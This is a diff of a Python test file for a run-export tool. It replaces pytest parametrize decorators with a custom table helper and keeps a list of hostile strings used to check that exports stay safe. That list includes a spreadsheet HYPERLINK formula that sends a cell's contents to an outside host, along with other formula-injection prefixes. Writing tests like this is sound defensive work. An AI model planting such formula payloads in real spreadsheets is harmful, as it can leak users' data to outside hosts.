@@ -28,6 +28,7 @@ from lmms_rpts.demo import __file__ as demo
 from lmms_rpts.tasks.rpts_eval.runs import read_run, read_runs
 from tests.support.instances import make_doc
 from tests.support.runs import make_record, write_run
+from tests.support.tables import table
 
 FORMATS = [".parquet", ".jsonl", ".csv"]
 HOSTILE = [
@@ -36,21 +37,9 @@ HOSTILE = [
     "\u2028line\u2029ends\x85of other kinds",
     "say \"yes\", or 'no'; tab\there, back\\slash",
     "emoji 👩‍👩‍👧 🏳️‍🌈 and \u202eright to left\u202c שלום",
-    "NA",
-    "None",
-    "nan",
-    "true",
-    "007",
-    "  spaces  ",
+    *("NA", "None", "nan", "true", "007", "  spaces  "),
     '=HYPERLINK("http://x.y/?"&A1,"see")',
-    "'=already guarded",
-    "''@twice",
-    "+1",
-    "-1",
-    "@SUM(1)",
-    "＝1",
-    "\t=1",
-    "\ufeffmark",
+    *("'=already guarded", "''@twice", "+1", "-1", "@SUM(1)", "＝1", "\t=1", "\ufeffmark"),
     "图片0 -> 结论0：钟指向九点。",
 ]
 EDGES = ["", "=", "'", "''", "-", "\0", "\r", "\n", '"', ","]
@@ -65,7 +54,7 @@ def row(**cells: object) -> dict[str, object]:
     return {name: known[kind] for name, kind in STEP_TYPES.items()} | cells
 
 
-@pytest.mark.parametrize("suffix", FORMATS)
+@table("suffix", *FORMATS)
 def test_hostile_texts_come_back_as_they_were(tmp_path: Path, suffix: str) -> None:
     rows = [
         row(conclusion=text, reply=text, run=text, doc_id=at) for at, text in enumerate(HOSTILE)
@@ -136,8 +125,8 @@ def test_a_spreadsheet_runs_no_cell(tmp_path: Path) -> None:
     assert not [cell for cell in cells if cell[:1] in tuple("=+-@＝\t\r\n")]
 
 
-@pytest.mark.parametrize("suffix", FORMATS)
-@pytest.mark.parametrize("flags", [[], ["--for-rating"]])
+@table("suffix", *FORMATS)
+@table("flags", [], ["--for-rating"])
 def test_a_run_without_any_step_gives_a_file_without_rows(
     tmp_path: Path, suffix: str, flags: list[str]
 ) -> None:
@@ -234,7 +223,7 @@ def test_a_sheet_that_was_filled_in_is_read_as_ratings(tmp_path: Path) -> None:
     assert ratings.unrated == 2
 
 
-@pytest.mark.parametrize("name", ["out.xlsx", "out", "out.csv.gz", ".csv"])
+@table("name", "out.xlsx", "out", "out.csv.gz", ".csv")
 def test_an_unknown_suffix_is_refused_before_anything_is_read(tmp_path: Path, name: str) -> None:
     failed = export("/nowhere", "-o", tmp_path / name)
     assert failed.exit_code == 1
@@ -242,7 +231,7 @@ def test_an_unknown_suffix_is_refused_before_anything_is_read(tmp_path: Path, na
     assert len(failed.output.splitlines()) == 1
 
 
-@pytest.mark.parametrize("suffix", FORMATS)
+@table("suffix", *FORMATS)
 def test_a_file_is_replaced_whole_or_stays(tmp_path: Path, suffix: str) -> None:
     out = tmp_path / f"out{suffix}"
     out.write_text("what was here before")
@@ -283,9 +272,12 @@ def test_a_run_that_is_not_there_is_one_clear_error(tmp_path: Path) -> None:
     assert (failed.exit_code, "does not exist" in failed.output) == (1, True)
 
 
-@pytest.mark.parametrize(
-    ("suffix", "content"),
-    [(".jsonl", "[1]\n"), (".jsonl", "{no\n"), (".parquet", "no parquet"), (".csv", "")],
+@table(
+    "suffix, content",
+    (".jsonl", "[1]\n"),
+    (".jsonl", "{no\n"),
+    (".parquet", "no parquet"),
+    (".csv", ""),
 )
 def test_a_file_of_others_is_no_export(tmp_path: Path, suffix: str, content: str) -> None:
     (tmp_path / f"x{suffix}").write_text(content)
